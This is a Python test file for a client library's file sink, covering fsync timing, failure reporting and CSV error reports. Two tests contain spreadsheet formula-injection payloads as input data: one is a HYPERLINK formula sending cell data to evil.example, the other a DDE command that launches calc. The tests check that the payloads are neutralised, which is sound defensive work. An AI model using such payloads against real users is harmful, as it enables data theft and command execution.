"""An output reaches the disk while it grows, and what did not is told."""

from __future__ import annotations

import csv
import errno
import os
import threading
from pathlib import Path

import pytest

from scoreline_client.files.sink import ErrorReport, PartFile
from tests.support.bulk import run

DATA = memoryview(b"x" * 1000)


def test_it_reaches_the_disk_before_its_end(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    synced = threading.Event()
    monkeypatch.setattr(os, "fsync", lambda _: synced.set())
    part = PartFile(tmp_path / "part", 0, sync_bytes=1000)
    part.write(DATA[:999])
    assert not synced.wait(0.05)
    part.write(DATA[999:])
    assert synced.wait(10)
    part.close()
    assert (tmp_path / "part").read_bytes() == bytes(DATA)


def test_what_is_slow_to_reach_it_keeps_nobody_from_writing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    slow = threading.Event()
    monkeypatch.setattr(os, "fsync", lambda _: slow.wait(10))
    part = PartFile(tmp_path / "part", 0, sync_bytes=1000)
    for _ in range(5):
        part.write(DATA)
    assert (tmp_path / "part").stat().st_size == 5000
    slow.set()
    part.close()


def test_what_did_not_reach_it_is_told_and_cut_off(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The system tells it once, and would let the bytes be read again until it needs the memory."""
    tried = threading.Event()
    calls = 0

    def fail(_: int) -> None:
        nonlocal calls
        calls += 1
        tried.set()
        if calls > 1:
            raise OSError(errno.EIO, "the disk is gone")

    monkeypatch.setattr(os, "fsync", fail)
    part = PartFile(tmp_path / "part", 0, sync_bytes=1000)
    part.write(DATA)
    for _ in range(2):
        assert tried.wait(10)
        assert part._syncing is not None
        part._syncing.result(10)
        tried.clear()
        if calls < 2:
            part.write(DATA)
    for _ in range(2):
        with pytest.raises(OSError, match="the disk is gone"):
            part.write(DATA)
    for _ in range(2):
        with pytest.raises(OSError, match="the disk is gone"):
            part.close()
    assert (tmp_path / "part").stat().st_size == len(DATA)


def test_it_goes_on_behind_what_is_whole(tmp_path: Path) -> None:
    (tmp_path / "part").write_bytes(b"whole and a half")
    part = PartFile(tmp_path / "part", 5)
    part.write(memoryview(b"!"))
    part.close()
    assert (tmp_path / "part").read_bytes() == b"whole!"


def test_a_formula_in_the_input_is_text_in_the_error_report(tmp_path: Path) -> None:
    """People open it in a spreadsheet, which would run it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    report = ErrorReport(tmp_path / "errors.csv")
    report.write(
        [
            {"row": 1, "value": formula, "column": "@SUM(1+1)", "code": "E_JSON", "message": "-x"},
            {"row": 2, "value": "-3.5", "column": "-1", "code": "E_TYPE", "message": "a"},
        ]
    )
    with (tmp_path / "errors.csv").open(newline="") as file:
        first, second = csv.DictReader(file)
    assert (first["value"], first["column"], first["message"]) == (
        f"'{formula}",
        "'@SUM(1+1)",
        "'-x",
    )
    assert (second["value"], second["column"]) == ("-3.5", "-1")


def test_a_line_that_is_no_json_but_a_formula_is_text_in_the_error_report(tmp_path: Path) -> None:
    (tmp_path / "in.jsonl").write_text("{\"a\":9}\n@SUM(1+1)*cmd|' /C calc'!A0\n")
    run(tmp_path / "in.jsonl", tmp_path / "out.jsonl")
    with (tmp_path / "out.jsonl.errors.csv").open(newline="") as file:
        (line,) = csv.DictReader(file)
    assert line["value"].startswith("'@SUM")
